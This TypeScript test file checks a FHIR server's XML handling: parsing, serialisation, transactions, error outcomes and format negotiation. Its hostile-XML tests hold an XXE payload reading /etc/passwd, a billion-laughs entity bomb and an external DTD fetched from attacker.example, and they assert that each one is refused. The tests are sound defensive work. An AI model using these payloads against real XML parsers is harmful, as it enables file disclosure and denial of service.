/**
 * FHIR XML over HTTP (R4 http page "Content Types and encodings", R4 XML page):
 * XML bodies read into the same JSON the engine validates, XML answers for
 * everything the FHIR routes send (resources, bundles, OperationOutcomes),
 * `_format` over Accept, and hostile XML (DTD, entities) refused without a trace.
 */
import type { LightMyRequestResponse } from 'fastify';
import { describe, expect, it } from 'vitest';
import { FHIR_JSON, useTestServer } from '../helpers/test-server.js';

const { inject, server } = useTestServer();

const XML = { 'content-type': 'application/fhir+xml; charset=UTF-8' };
const ACCEPT_XML = { accept: 'application/fhir+xml' };
const mediaType = (response: LightMyRequestResponse) => String(response.headers['content-type']).split(';')[0];
const fromXml = (text: string) => server().app.fhirXml.read(text);
const historyTotal = async () => (await inject({ method: 'GET', url: '/fhir/_history?_count=0' })).json().total as number;

const PATIENT_XML = `<?xml version="1.0" encoding="UTF-8"?>
<Patient xmlns="http://hl7.org/fhir">
  <text>
    <status value="generated"/>
    <div xmlns="http://www.w3.org/1999/xhtml"><p>Jeanne <b>MARTIN</b> &amp; famille</p></div>
  </text>
  <identifier>
    <system value="urn:oid:1.2.250.1.213.1.4.8"/>
    <value value="248097512345678"/>
  </identifier>
  <name>
    <family value="Martin"/>
    <given value="Jeanne"/>
    <given id="g2" value="Marie"/>
  </name>
  <gender value="female"/>
  <birthDate value="1948-03-12">
    <extension url="http://hl7.org/fhir/StructureDefinition/patient-birthTime">
      <valueDateTime value="1948-03-12T06:30:00+01:00"/>
    </extension>
  </birthDate>
  <deceasedBoolean value="false"/>
  <multipleBirthInteger value="2"/>
</Patient>`;

/** Asserts an OperationOutcome error answered in XML, and returns it as JSON. */
function expectXmlOutcome(response: LightMyRequestResponse, status: number) {
  expect(response.statusCode, response.body).toBe(status);
  expect(mediaType(response)).toBe('application/fhir+xml');
  expect(response.body).toContain('<OperationOutcome xmlns="http://hl7.org/fhir">');
  const outcome = fromXml(response.body) as { resourceType: string; issue: Array<{ severity: string; code: string; diagnostics: string }> };
  expect(outcome.resourceType).toBe('OperationOutcome');
  expect(outcome.issue[0].severity).toBe('error');
  return outcome;
}

describe('XML bodies and XML answers', () => {
  let id = '';

  it('creates a Patient sent as XML (201) whose JSON form carries the primitive extensions, ids, choice types and narrative', async () => {
    const created = await inject({ method: 'POST', url: '/fhir/Patient', headers: XML, payload: PATIENT_XML });
    expect(created.statusCode, created.body).toBe(201);
    expect(mediaType(created)).toBe('application/fhir+json');
    id = created.json().id;
    const json = (await inject({ method: 'GET', url: `/fhir/Patient/${id}` })).json();
    expect(json).toMatchObject({
      resourceType: 'Patient',
      text: { status: 'generated', div: '<div xmlns="http://www.w3.org/1999/xhtml"><p>Jeanne <b>MARTIN</b> &amp; famille</p></div>' },
      identifier: [{ system: 'urn:oid:1.2.250.1.213.1.4.8', value: '248097512345678' }],
      name: [{ family: 'Martin', given: ['Jeanne', 'Marie'], _given: [null, { id: 'g2' }] }],
      gender: 'female',
      birthDate: '1948-03-12',
      _birthDate: { extension: [{ url: 'http://hl7.org/fhir/StructureDefinition/patient-birthTime', valueDateTime: '1948-03-12T06:30:00+01:00' }] },
      deceasedBoolean: false,
      multipleBirthInteger: 2,
    });
  });

  it('reads it back as XML equal to the JSON read', async () => {
    const xml = await inject({ method: 'GET', url: `/fhir/Patient/${id}`, headers: ACCEPT_XML });
    expect(xml.statusCode).toBe(200);
    expect(mediaType(xml)).toBe('application/fhir+xml');
    expect(xml.body).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?><Patient xmlns="http:\/\/hl7.org\/fhir"><id value="[^"]+"\/><meta>/);
    expect(xml.body).toContain('<given id="g2" value="Marie"/>');
    expect(xml.headers.etag).toBe('W/"1"');
    const json = (await inject({ method: 'GET', url: `/fhir/Patient/${id}` })).json();
    expect(fromXml(xml.body)).toEqual(json);
  });

  it('updates from XML (application/xml) and answers the representation in XML', async () => {
    const body = PATIENT_XML.replace('<Patient xmlns="http://hl7.org/fhir">', `<Patient xmlns="http://hl7.org/fhir"><id value="${id}"/>`).replace('<gender value="female"/>', '<active value="true"/><gender value="female"/>');
    const updated = await inject({ method: 'PUT', url: `/fhir/Patient/${id}`, headers: { 'content-type': 'application/xml', accept: 'application/xml' }, payload: body });
    expect(updated.statusCode, updated.body).toBe(200);
    expect(mediaType(updated)).toBe('application/xml');
    expect(fromXml(updated.body)).toMatchObject({ resourceType: 'Patient', id, active: true, meta: { versionId: '2' } });
  });

  it('answers a search Bundle in XML, resources inside their containers', async () => {
    const xml = await inject({ method: 'GET', url: `/fhir/Patient?_id=${id}&_format=xml` });
    expect(xml.statusCode, xml.body).toBe(200);
    expect(mediaType(xml)).toBe('application/fhir+xml');
    expect(xml.body).toContain('<resource><Patient>');
    const bundle = fromXml(xml.body) as { resourceType: string; type: string; total: number; entry: Array<{ resource: unknown; search: unknown }> };
    const json = (await inject({ method: 'GET', url: `/fhir/Patient?_id=${id}` })).json();
    expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'searchset', total: 1 });
    expect(bundle.entry.map((e) => e.resource)).toEqual(json.entry.map((e: { resource: unknown }) => e.resource));
    expect(bundle.entry[0].search).toEqual(json.entry[0].search);
  });

  it('_pretty=true indents the XML; the content is the same', async () => {
    const pretty = await inject({ method: 'GET', url: `/fhir/Patient/${id}?_format=xml&_pretty=true` });
    expect(pretty.body).toContain('\n  <name>\n    <family value="Martin"/>');
    const compact = await inject({ method: 'GET', url: `/fhir/Patient/${id}?_format=xml` });
    expect(compact.body).not.toContain('\n');
    expect(fromXml(pretty.body)).toEqual(fromXml(compact.body));
  });

  it('gives an XML resource exactly the validation and errors of its JSON form', async () => {
    const invalidXml = `<Patient xmlns="http://hl7.org/fhir"><colour value="blue"/><active value="yes"/><birthDate value="19480312"/><multipleBirthInteger value="two"/></Patient>`;
    const invalidJson = { resourceType: 'Patient', colour: ['blue'], active: 'yes', birthDate: '19480312', multipleBirthInteger: 'two' };
    const fromXmlBody = await inject({ method: 'POST', url: '/fhir/Patient', headers: XML, payload: invalidXml });
    const fromJsonBody = await inject({ method: 'POST', url: '/fhir/Patient', headers: FHIR_JSON, payload: invalidJson });
    expect(fromXmlBody.statusCode).toBe(400);
    expect(fromJsonBody.statusCode).toBe(400);
    expect(fromXmlBody.json().issue).toEqual(fromJsonBody.json().issue);
    expect(fromXmlBody.json().issue.length).toBeGreaterThanOrEqual(4);
  });

  it('runs $validate on an XML body and answers in XML', async () => {
    const response = await inject({ method: 'POST', url: '/fhir/Patient/$validate', headers: { ...XML, ...ACCEPT_XML }, payload: PATIENT_XML });
    expect(response.statusCode, response.body).toBe(200);
    expect(mediaType(response)).toBe('application/fhir+xml');
    expect(fromXml(response.body).resourceType).toBe('OperationOutcome');
  });
});

describe('transactions in XML', () => {
  it('commits an XML transaction Bundle (urn:uuid references resolved) and answers the transaction-response in XML', async () => {
    const bundle = `<Bundle xmlns="http://hl7.org/fhir">
      <type value="transaction"/>
      <entry>
        <fullUrl value="urn:uuid:9a3c8b52-0b8a-4c57-a1d3-6a2b3c4d5e6f"/>
        <resource><Patient><name><family value="Durand"/></name></Patient></resource>
        <request><method value="POST"/><url value="Patient"/></request>
      </entry>
      <entry>
        <resource>
          <Observation>
            <status value="final"/>
            <code><text value="Poids"/></code>
            <subject><reference value="urn:uuid:9a3c8b52-0b8a-4c57-a1d3-6a2b3c4d5e6f"/></subject>
            <valueQuantity><value value="61.50"/><unit value="kg"/><system value="http://unitsofmeasure.org"/><code value="kg"/></valueQuantity>
          </Observation>
        </resource>
        <request><method value="POST"/><url value="Observation"/></request>
      </entry>
    </Bundle>`;
    const response = await inject({ method: 'POST', url: '/fhir', headers: { ...XML, ...ACCEPT_XML }, payload: bundle });
    expect(response.statusCode, response.body).toBe(200);
    expect(mediaType(response)).toBe('application/fhir+xml');
    const result = fromXml(response.body) as { type: string; entry: Array<{ response: { status: string; location: string } }> };
    expect(result.type).toBe('transaction-response');
    expect(result.entry.map((e) => e.response.status)).toEqual(['201 Created', '201 Created']);
    const patientRef = result.entry[0].response.location.split('/_history')[0].replace('http://relais.test/fhir/', '');
    const observation = (await inject({ method: 'GET', url: `/fhir/${result.entry[1].response.location.replace('http://relais.test/fhir/', '')}` })).json();
    expect(observation.subject.reference).toBe(patientRef);
    // Decimal text becomes a JSON number (as in a JSON body): 61.50 is stored as 61.5.
    expect(observation.valueQuantity.value).toBe(61.5);
  });
});

describe('errors in XML when XML was asked', () => {
  it('404, 400 and route errors are OperationOutcomes in XML', async () => {
    expectXmlOutcome(await inject({ method: 'GET', url: '/fhir/Patient/does-not-exist', headers: ACCEPT_XML }), 404);
    expectXmlOutcome(await inject({ method: 'GET', url: '/fhir/Patient?_summary=maybe&_format=xml' }), 400);
    expectXmlOutcome(await inject({ method: 'GET', url: '/fhir/NotAType/1', headers: ACCEPT_XML }), 404);
    const invalid = expectXmlOutcome(await inject({ method: 'POST', url: '/fhir/Patient', headers: { ...XML, ...ACCEPT_XML }, payload: '<Patient xmlns="http://hl7.org/fhir"><active value="yes"/></Patient>' }), 400);
    expect(invalid.issue[0].diagnostics).toContain('boolean');
  });

  it('a 406 stays JSON (the asked format is the problem)', async () => {
    const response = await inject({ method: 'GET', url: '/fhir/metadata', headers: { accept: 'text/turtle' } });
    expect(response.statusCode).toBe(406);
    expect(mediaType(response)).toBe('application/fhir+json');
    expect(response.json().resourceType).toBe('OperationOutcome');
  });
});

describe('malformed and hostile XML', () => {
  it('answers 400 with an OperationOutcome for XML that is not well-formed or not FHIR XML', async () => {
    const cases: Array<[string, RegExp]> = [
      ['<Patient xmlns="http://hl7.org/fhir"><active value="true"/>', /not valid FHIR XML/],
      ['<Patient xmlns="http://hl7.org/fhir"><active value="true"></Patient>', /not valid FHIR XML/],
      ['<Patient><active value="true"/></Patient>', /FHIR namespace/],
      ['<Patient xmlns="http://hl7.org/fhir/other"><active value="true"/></Patient>', /FHIR namespace/],
      ['<Patient xmlns="http://hl7.org/fhir">Jeanne</Patient>', /unexpected text/],
      ['<Patient xmlns="http://hl7.org/fhir"><active/></Patient>', /no empty elements/],
      ['<Patient xmlns="http://hl7.org/fhir"><name family="Martin"/></Patient>', /attribute 'family'/],
      ['<Patient xmlns="http://hl7.org/fhir"><name><family value="&eacute;"/></name></Patient>', /undeclared entity/],
      ['<Nonsense xmlns="http://hl7.org/fhir"/>', /not an R4 resource type/],
      ['<f:Patient xmlns:f="http://hl7.org/fhir"/>', /FHIR namespace|prefixes/],
      ['<?xml version="1.0" encoding="ISO-8859-1"?><Patient xmlns="http://hl7.org/fhir"/>', /UTF-8/],
      ['<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div><p>no namespace</p></div></text></Patient>', /XHTML namespace/],
      ['<Patient xmlns="http://hl7.org/fhir"><contained><Patient/><Patient/></contained></Patient>', /exactly one resource/],
      [`<Patient xmlns="http://hl7.org/fhir">${'<contact>'.repeat(400)}${'</contact>'.repeat(400)}</Patient>`, /nested|deeper/],
      ['', /empty/],
    ];
    const before = await historyTotal();
    for (const [payload, message] of cases) {
      const response = await inject({ method: 'POST', url: '/fhir/Patient', headers: XML, payload });
      expect(response.statusCode, payload.slice(0, 80)).toBe(400);
      expect(mediaType(response)).toBe('application/fhir+json');
      expect(response.json().resourceType).toBe('OperationOutcome');
      expect(response.json().issue[0].diagnostics, payload.slice(0, 80)).toMatch(message);
    }
    expect(await historyTotal()).toBe(before);
  });

  it('refuses XXE and billion-laughs payloads (400, nothing stored, nothing expanded)', async () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>`;
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Patient xmlns="http://hl7.org/fhir"><name><family value="&lol9;"/></name></Patient>`;
    const external = `<!DOCTYPE Patient SYSTEM "http://attacker.example/fhir.dtd"><Patient xmlns="http://hl7.org/fhir"/>`;
    const before = await historyTotal();
    for (const payload of [xxe, laughs, external]) {
      const created = await inject({ method: 'POST', url: '/fhir/Patient', headers: XML, payload });
      expect(created.statusCode).toBe(400);
      expect(created.json().issue[0].code).toBe('security');
      expect(created.body).not.toContain('root:');
      const transaction = await inject({ method: 'POST', url: '/fhir', headers: XML, payload: payload.replace(/Patient/g, 'Bundle') });
      expect(transaction.statusCode).toBe(400);
    }
    expect(await historyTotal()).toBe(before);
  });

  it('XML Patch is refused with 415 and a message naming JSON Patch', async () => {
    const response = await inject({ method: 'PATCH', url: '/fhir/Patient/any', headers: { 'content-type': 'application/xml-patch+xml' }, payload: '<diff/>' });
    expect(response.statusCode).toBe(415);
    expect(response.json().issue[0].diagnostics).toMatch(/XML Patch is not supported.*|json-patch/);
  });
});

describe('negotiation', () => {
  it('XML for every XML name, with q-values; JSON stays the default; _format overrides Accept', async () => {
    const cases: Array<[Record<string, string>, string, string]> = [
      [{}, '', 'application/fhir+json'],
      [{ accept: 'application/fhir+xml' }, '', 'application/fhir+xml'],
      [{ accept: 'application/xml' }, '', 'application/xml'],
      [{ accept: 'text/xml' }, '', 'application/fhir+xml'],
      [{ accept: 'application/fhir+json;q=0.5, application/fhir+xml' }, '', 'application/fhir+xml'],
      [{ accept: 'application/fhir+xml;q=0.4, application/fhir+json;q=0.8' }, '', 'application/fhir+json'],
      [{ accept: 'text/turtle, application/fhir+xml;q=0.1' }, '', 'application/fhir+xml'],
      // What HAPI FHIR's generic client sends when configured for XML.
      [{ accept: 'application/fhir+xml;q=1.0, application/fhir+json;q=1.0, application/xml+fhir;q=0.9, application/json+fhir;q=0.9' }, '', 'application/fhir+xml'],
      [{}, '?_format=xml', 'application/fhir+xml'],
      [{}, '?_format=application/fhir%2Bxml', 'application/fhir+xml'],
      [{}, '?_format=application/fhir+xml', 'application/fhir+xml'],
      [{}, '?_format=text/xml', 'application/fhir+xml'],
      [{ accept: 'application/fhir+json' }, '?_format=xml', 'application/fhir+xml'],
      [{ accept: 'application/fhir+xml' }, '?_format=json', 'application/fhir+json'],
    ];
    for (const [headers, query, expected] of cases) {
      const response = await inject({ method: 'GET', url: `/fhir/metadata${query}`, headers });
      expect(response.statusCode, `${JSON.stringify(headers)} ${query}`).toBe(200);
      expect(mediaType(response), `${JSON.stringify(headers)} ${query}`).toBe(expected);
    }
  });

  it('406 for formats that are neither JSON nor XML', async () => {
    for (const [headers, query] of [[{ accept: 'text/turtle' }, ''], [{}, '?_format=ttl'], [{ accept: 'application/fhir+xml;q=0, text/html' }, '']] as Array<[Record<string, string>, string]>) {
      const response = await inject({ method: 'GET', url: `/fhir/metadata${query}`, headers });
      expect(response.statusCode, `${JSON.stringify(headers)} ${query}`).toBe(406);
    }
  });

  it('the CapabilityStatement lists XML and JSON, and is itself readable as XML', async () => {
    const response = await inject({ method: 'GET', url: '/fhir/metadata', headers: ACCEPT_XML });
    const capability = fromXml(response.body) as { format: string[]; patchFormat: string[] };
    expect(capability.format).toEqual(expect.arrayContaining(['application/fhir+json', 'json', 'application/fhir+xml', 'xml']));
    expect(capability.patchFormat).toEqual(['application/json-patch+json']);
    expect(capability).toEqual((await inject({ method: 'GET', url: '/fhir/metadata' })).json());
  });
});
